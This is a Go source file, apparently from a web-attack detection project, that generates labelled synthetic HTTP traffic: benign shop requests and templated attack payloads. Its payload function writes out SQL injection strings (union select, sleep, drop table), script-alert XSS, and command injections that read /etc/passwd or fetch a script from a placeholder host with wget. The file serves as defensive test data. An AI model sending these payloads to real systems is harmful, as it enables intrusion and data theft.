// SPDX-License-Identifier: Apache-2.0

// Package synthetic makes up labelled traffic, so that the whole way from requests to tables runs and is tested
// anywhere. It imitates the forms of real traffic, not its variety: figures on it say nothing about real sites.
package synthetic

import (
	"encoding/json"
	"fmt"
	"iter"
	"math/rand/v2"
	"net/url"
	"strings"

	"github.com/mlverdict/mlverdict/internal/traffic"
)

// Sites is the number of sites that Benign's requests come from.
const Sites = 8

var (
	words = strings.Fields(`cart item price color size name page list view order total city street phone mail search
		filter sort review rating store gift blue green large small winter summer select update where union from table
		script image style width height alert value`)
	agents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
		"Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0",
	}
)

// Benign yields n requests as a shop's visitors send them: pages with queries, tracking cookies, forms, JSON. Some of
// them look bad to CRS: a URL as an argument, words of SQL in a text, JSON in a query.
func Benign(n int, seed uint64) iter.Seq[*traffic.Request] {
	return func(yield func(*traffic.Request) bool) {
		rng := rand.New(rand.NewPCG(seed, 1))
		for i := range n {
			if !yield(benign(rng, i)) {
				return
			}
		}
	}
}

func benign(rng *rand.Rand, i int) *traffic.Request {
	site := fmt.Sprintf("shop%d", rng.IntN(Sites))
	host := site + ".example"
	r := &traffic.Request{
		Set: "synthetic-benign", Origin: "synthetic", Label: traffic.Benign, Site: site, Src: fmt.Sprintf("synthetic#%d", i),
		Method: "GET",
		URI:    "/" + word(rng) + "/" + word(rng) + "?" + word(rng) + "=" + url.QueryEscape(text(rng, 1+rng.IntN(4))),
		Headers: [][2]string{{"Host", host}, {"User-Agent", agents[rng.IntN(len(agents))]}, {"Accept", "*/*"},
			{"Referer", "https://" + host + "/" + word(rng)},
			{"Cookie", fmt.Sprintf("sid=%016x; seen=%d", rng.Uint64(), rng.IntN(1e9))}},
	}
	switch rng.IntN(5) {
	case 0:
		r.URI += "&back=" + url.QueryEscape("https://"+host+"/"+word(rng)+"?a="+word(rng)+"&b=[1,2]")
	case 1:
		r.URI += "&state=" + url.QueryEscape(object(rng))
	case 2:
		post(r, "application/x-www-form-urlencoded", url.Values{word(rng): {text(rng, 12)}, "comment": {text(rng, 30)}}.Encode())
	case 3:
		post(r, "application/json", object(rng))
	}
	return r
}

func word(rng *rand.Rand) string { return words[rng.IntN(len(words))] }

func text(rng *rand.Rand, n int) string {
	var b strings.Builder
	for i := range n {
		if i > 0 {
			b.WriteString([]string{" ", " ", " ", ", ", "-", " & ", "; ", "'s "}[rng.IntN(8)])
		}
		b.WriteString(word(rng))
	}
	return b.String()
}

func object(rng *rand.Rand) string {
	b, _ := json.Marshal(map[string]any{ // strings and numbers always marshal
		word(rng): text(rng, 3), "id": rng.IntN(1e6), "list": []string{word(rng), word(rng)}, "on": rng.IntN(2) == 0,
	})
	return string(b)
}

// Payloads yields n attack payloads of three classes.
func Payloads(n int, seed uint64) iter.Seq[*traffic.Request] {
	return func(yield func(*traffic.Request) bool) {
		rng := rand.New(rand.NewPCG(seed, 2))
		for i := range n {
			r := &traffic.Request{Set: "synthetic-payloads", Origin: "synthetic", Label: traffic.Attack, Src: fmt.Sprintf("synthetic#%d", i)}
			r.Class, r.Payload = payload(rng)
			if !yield(r) {
				return
			}
		}
	}
}

func payload(rng *rand.Rand) (class, text string) {
	k := rng.IntN(100)
	pick := func(from ...string) string { return from[rng.IntN(len(from))] }
	switch rng.IntN(3) {
	case 0:
		return "sqli", fmt.Sprintf("%d%s %s%s", k, pick("'", "\"", "')", ""),
			pick(fmt.Sprintf("or %d=%d", k, k), "union select "+word(rng)+",null,null from "+word(rng)+"s",
				"and sleep("+fmt.Sprint(k%9)+")", "; drop table "+word(rng)), pick("-- ", "#", "/*", ""))
	case 1:
		return "xss", pick("<script>", "\"><script>", "<ScRiPt>") + pick("alert", "confirm", "eval") + fmt.Sprintf("(%d)</script>", k) +
			pick("", fmt.Sprintf("<img src=%s onerror=alert(%d)>", word(rng), k))
	}
	return "rce", pick("; ", "| ", "&& ", "`") + pick("cat /etc/passwd", "wget http://"+word(rng)+".example/x.sh", "id", "ping -c 3 127.0.0.1") +
		pick("", " #", "`", "; ls -la /tmp")
}

// Attacks yields n requests that carry a payload in a query.
func Attacks(n int, seed uint64) iter.Seq[*traffic.Request] {
	return func(yield func(*traffic.Request) bool) {
		for r := range Payloads(n, seed) {
			r.Set, r.Method, r.URI = "synthetic-attacks", "GET", "/?q="+url.QueryEscape(r.Payload)
			r.Headers = [][2]string{{"Host", "shop.example"}, {"User-Agent", agents[0]}, {"Accept", "*/*"}}
			r.Payload = ""
			if !yield(r) {
				return
			}
		}
	}
}

func post(r *traffic.Request, contentType, body string) {
	r.Method, r.Body = "POST", []byte(body)
	r.Headers = append(r.Headers, [2]string{"Content-Type", contentType}, [2]string{"Content-Length", fmt.Sprint(len(body))})
}
